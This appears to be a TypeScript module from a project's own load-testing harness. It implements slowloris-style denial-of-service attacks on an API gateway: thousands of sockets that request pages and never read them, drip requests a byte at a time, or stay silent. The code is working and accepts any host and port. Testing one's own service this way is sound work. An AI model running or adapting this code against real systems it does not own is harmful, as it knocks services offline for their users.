/**
 * Thousands of connections to every route that ask for much and read nothing, or say what they want a byte at a time,
 * or say nothing. Read next: floods.ts, attacker.ts (which runs them).
 */
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { apiRoutes } from './api-fields.ts'
import type { Attack } from './attack.ts'
import { bytesOf, type Wire } from './wire-client.ts'

const CONNECTIONS = 2_400
const BURST = 50
const BURST_EVERY_MS = 50
const DRIP_EVERY_MS = 250
/** Asked for at once on each. */
const PIPELINED = 4

/** All of the description, and the pages beside it, which are the largest. */
const PAGES = ['/docs/static/swagger-ui-bundle.js', '/openapi.json', '/verify', '/docs/']
const requests: readonly Wire[] = [
  ...apiRoutes.map(({ wire }) => wire),
  ...PAGES.map((target): Wire => ({ method: 'GET', target })),
].map((wire) => ({ ...wire, headers: { ...wire.headers, connection: 'keep-alive' } }))

/** Called with the nth connection once it is asked for. */
type Member = (socket: Socket, n: number) => void

const slowReader: Member = (socket, n) => {
  const request = bytesOf(requests[n % requests.length]!)
  socket.pause().write(Buffer.concat(Array(PIPELINED).fill(request)))
}

/** The head, or the body, comes a byte at a time. */
const slowWriter: Member = (socket, n) => {
  const wire = requests[n % requests.length]!
  const bytes = bytesOf(n % 2 === 0 ? wire : { ...wire, body: Buffer.alloc(1_000, ' ') })
  let sent = n % 2 === 0 ? 1 : bytes.length - 1_000
  socket.write(bytes.subarray(0, sent))
  const timer = setInterval(() => socket.write(bytes.subarray(sent, ++sent)), DRIP_EVERY_MS)
  socket.once('close', () => clearInterval(timer)).resume()
}

const silent: Member = (socket) => void socket.resume()

function crowd(...members: readonly Member[]): Attack {
  return async ({ hostname, port }, signal) => {
    const sockets = new Set<Socket>()
    let opened = 0
    while (!signal.aborted) {
      for (let burst = 0; burst < BURST; burst++) {
        // Those that the gateway has cut are not noticed by who reads nothing: the oldest are given up.
        if (sockets.size >= CONNECTIONS) sockets.values().next().value?.destroy()
        const socket = connect({ host: hostname, port: Number(port) })
        socket.on('error', () => undefined)
        socket.once('close', () => sockets.delete(socket))
        sockets.add(socket)
        members[opened % members.length]!(socket, Math.floor(opened / members.length))
        opened += 1
      }
      await pause(BURST_EVERY_MS)
    }
    for (const socket of sockets) socket.destroy()
    return opened
  }
}

export const slowReaders = crowd(slowReader)
export const slowWriters = crowd(slowWriter, slowWriter, silent)
